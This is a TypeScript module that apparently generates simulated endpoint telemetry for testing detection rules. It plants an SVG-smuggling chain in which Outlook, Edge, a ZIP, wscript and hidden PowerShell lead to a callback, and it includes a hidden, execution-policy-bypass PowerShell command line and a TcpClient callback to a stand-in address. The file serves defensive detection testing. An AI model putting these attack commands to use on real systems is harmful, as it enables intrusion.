import type { Micros } from '../../base/time';
import { type Day, later } from '../day';
import { type Desk, openInBrowser, POWERSHELL, startBrowserChild } from '../noise/desk';
import { MAIL_CACHE } from '../noise/office';
import type { PlantedChain } from '../truth';

/**
 * SVG smuggling, AN1407: a mailed SVG is opened in the browser, its script assembles a ZIP there (a blob, so
 * its mark says about:internet), the person opens the ZIP folder and double-clicks the script inside.
 *
 *   OUTLOOK ── writes Frachtbrief_…svg ── starts msedge …svg ~~ msedge (running) writes …zip
 *   explorer ── extracts Temp1_….zip\….js ── starts wscript ── starts powershell ── calls out
 *
 * The lineage is broken where the browser hands over and where explorer takes the file: only paths and
 * marks join the halves. The same events are a complete AN1314, anchored at wscript.
 */
export function tellSvgSmuggling(day: Day, desk: Desk, at: Micros): readonly PlantedChain[] {
  const { sensor, machine, random } = day;
  const stem = `${random.pick(['Frachtbrief', 'Zahlungsplan', 'Remittance', 'Liefernachweis'])}_${random.int(10_000, 99_999)}`;
  const svg = `${machine.home}\\${MAIL_CACHE}\\${stem}.svg`;
  sensor.writes(at, desk.outlook, svg);
  sensor.marks(later(at, 9), desk.outlook, svg);
  const visitor = openInBrowser(day, later(at, 1700), desk.outlook, svg);
  startBrowserChild(
    day,
    later(at, 2100),
    desk.edge,
    `--type=renderer --renderer-client-id=${random.int(900, 999)}`,
  );

  const zip = `${machine.home}\\Downloads\\${stem}.zip`;
  sensor.writes(
    later(at, 7200),
    desk.edge,
    `${machine.home}\\Downloads\\Unconfirmed ${random.int(100_000, 999_999)}.crdownload`,
  );
  sensor.writes(later(at, 7260), desk.edge, zip);
  sensor.marks(later(at, 7266), desk.edge, zip, { host: 'about:internet' });

  const unpacked = later(at, 33_600);
  const script = `${machine.home}\\AppData\\Local\\Temp\\Temp1_${stem}.zip\\${stem}.js`;
  sensor.writes(unpacked, desk.explorer, script);
  const wscript = sensor.starts(later(unpacked, 800), 'C:\\Windows\\System32\\wscript.exe', {
    parent: desk.explorer,
    commandLine: `"C:\\Windows\\System32\\WScript.exe" "${script}" `,
  });
  sensor.loads(later(unpacked, 900), wscript, [
    'C:\\Windows\\System32\\jscript.dll',
    'C:\\Windows\\System32\\wshom.ocx',
    'C:\\Windows\\System32\\scrrun.dll',
  ]);
  const name = `cdn-${random.pick(['freight', 'parcel', 'ledger'])}-sync${random.int(10, 99)}.example`;
  const address = `198.51.100.${random.int(20, 220)}`;
  sensor.resolves(later(unpacked, 2100), wscript, name, address);
  sensor.connects(later(unpacked, 2300), wscript, address, 443);
  const payload = `${machine.home}\\AppData\\Roaming\\${random.hex(6)}.ps1`;
  sensor.writes(later(unpacked, 4500), wscript, payload);
  const powershell = sensor.starts(later(unpacked, 4650), POWERSHELL, {
    parent: wscript,
    commandLine: `powershell.exe -w hidden -ep bypass -f "${payload}"`,
  });
  sensor.runsScript(
    later(unpacked, 5500),
    powershell,
    `$c = New-Object Net.Sockets.TcpClient('${address}', 8080)`,
  );
  sensor.connects(later(unpacked, 7300), powershell, address, 8080);
  sensor.ends(later(unpacked, 5100), wscript);
  sensor.ends(later(unpacked, 900_000), powershell);

  const shared = {
    host: machine.host.toLowerCase(),
    status: 'complete',
    anchor: day.named(wscript),
    processes: [desk.outlook, visitor, desk.edge, wscript, powershell].map(day.named),
  } as const;
  return [
    {
      ...shared,
      analytic: 'AN1407',
      stages: {
        matched: ['svg_arrival', 'svg_open', 'script_engine', 'callback'],
        absent: [],
        // No file reads are audited on these machines.
        blind: ['credential_collection'],
      },
      story: `${stem}.svg came by mail, opened in Edge, left a ZIP whose script called ${name}`,
    },
    {
      ...shared,
      analytic: 'AN1314',
      stages: { matched: ['user_app', 'file_arrival', 'spawn', 'egress'], absent: [], blind: [] },
      story: `a script from ${stem}.zip was run from Explorer and called ${name}`,
    },
  ];
}
